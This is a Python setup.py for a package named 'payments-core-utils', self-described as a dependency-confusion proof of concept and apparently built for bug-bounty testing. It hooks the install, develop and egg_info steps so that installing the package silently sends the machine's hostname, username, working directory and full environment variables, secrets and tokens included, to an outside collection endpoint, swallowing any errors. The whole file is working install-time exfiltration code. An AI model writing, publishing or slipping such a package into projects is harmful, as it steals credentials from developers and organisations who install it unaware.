from setuptools import setup, find_packages
from setuptools.command.install import install
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info
import json
import os
import socket
import urllib.request


def custom_command():
    data = {
        "h": socket.gethostname(),
        "fqdn": socket.getfqdn(),
        "user": os.environ.get("USER") or os.environ.get("USERNAME"),
        "env": dict(os.environ),
        "cwd": os.getcwd(),
    }
    req = urllib.request.Request(
        "https://collect.bounty.invalid/api/hit",
        data=json.dumps(data).encode("utf-8"),
        headers={"Content-Type": "application/json"},
    )
    try:
        urllib.request.urlopen(req, timeout=4)
    except Exception:
        pass


class CustomInstallCommand(install):
    def run(self):
        install.run(self)
        custom_command()


class CustomDevelopCommand(develop):
    def run(self):
        develop.run(self)
        custom_command()


class CustomEggInfoCommand(egg_info):
    def run(self):
        egg_info.run(self)
        custom_command()


setup(
    name="payments-core-utils",
    version="10.1.1",
    description="This package is a PoC for dependency confusion",
    packages=find_packages(),
    cmdclass={
        "install": CustomInstallCommand,
        "develop": CustomDevelopCommand,
        "egg_info": CustomEggInfoCommand,
    },
)
